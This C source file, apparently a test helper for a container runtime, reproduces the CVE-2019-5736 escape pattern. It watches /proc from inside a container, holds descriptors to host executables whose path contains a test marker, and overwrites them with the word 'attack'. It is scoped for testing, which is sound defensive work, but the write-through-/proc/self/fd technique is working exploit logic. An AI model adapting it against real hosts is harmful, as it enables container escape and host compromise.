/*
 * GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
 *
 * The CVE-2019-5736 pattern, from inside a container: watch /proc for a
 * process whose executable is not the container's own, and take hold of
 * that executable while its process is there.
 *
 *   exe_watcher SECONDS MARKER STOPFILE
 *
 * Scans /proc in a tight loop until STOPFILE exists, for at most SECONDS. For every other process whose
 * /proc/PID/exe can be read as a link, it prints "seen PATH"; when the link
 * names a file whose path contains MARKER (the host interpreter the test
 * made for this), it also opens the link with O_PATH and keeps the fd.
 * At the end, it tries to open each kept fd for writing through
 * /proc/self/fd/N and, when that works, writes the word "attack" at the start
 * of the file ("written PATH"): the host's binary would now be the
 * container's code. Only files whose path holds MARKER are ever touched.
 * The last line is "scans N seen S held H written W".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: %s SECONDS MARKER STOPFILE\n", argv[0]);
        return 2;
    }
    double deadline = now() + atof(argv[1]);
    const char *marker = argv[2];
    const char *stopfile = argv[3];
    char self[32];
    snprintf(self, sizeof self, "%d", (int)getpid());
    int held[MAX_HELD];
    char held_path[MAX_HELD][256];
    long scans = 0, seen = 0, nheld = 0, written = 0;

    setvbuf(stdout, NULL, _IOLBF, 0);
    while (now() < deadline && access(stopfile, F_OK) != 0) {
        DIR *proc = opendir("/proc");
        if (proc == NULL) {
            perror("opendir /proc");
            return 1;
        }
        struct dirent *entry;
        while ((entry = readdir(proc)) != NULL) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || strcmp(entry->d_name, self) == 0)
                continue;
            char link[64], target[256];
            snprintf(link, sizeof link, "/proc/%s/exe", entry->d_name);
            ssize_t length = readlink(link, target, sizeof target - 1);
            if (length < 0)
                continue;
            target[length] = '\0';
            if (strstr(target, "busybox") != NULL || strstr(target, "exe_watcher") != NULL)
                continue;
            seen++;
            printf("seen %s\n", target);
            if (strstr(target, marker) != NULL && nheld < MAX_HELD) {
                int fd = open(link, O_PATH | O_CLOEXEC);
                if (fd >= 0) {
                    held[nheld] = fd;
                    snprintf(held_path[nheld], sizeof held_path[nheld], "%s", target);
                    nheld++;
                    printf("held %s\n", target);
                }
            }
        }
        closedir(proc);
        scans++;
    }
    for (long i = 0; i < nheld; i++) {
        char reopen[64];
        snprintf(reopen, sizeof reopen, "/proc/self/fd/%d", held[i]);
        /* ETXTBSY while the host still runs it: try for a moment. */
        for (int attempt = 0; attempt < 200; attempt++) {
            int fd = open(reopen, O_WRONLY | O_CLOEXEC);
            if (fd >= 0) {
                if (write(fd, "attack", 6) == 6) {
                    written++;
                    printf("written %s\n", held_path[i]);
                }
                close(fd);
                break;
            }
            usleep(10000);
        }
    }
    printf("scans %ld seen %ld held %ld written %ld\n", scans, seen, nheld, written);
    return 0;
}
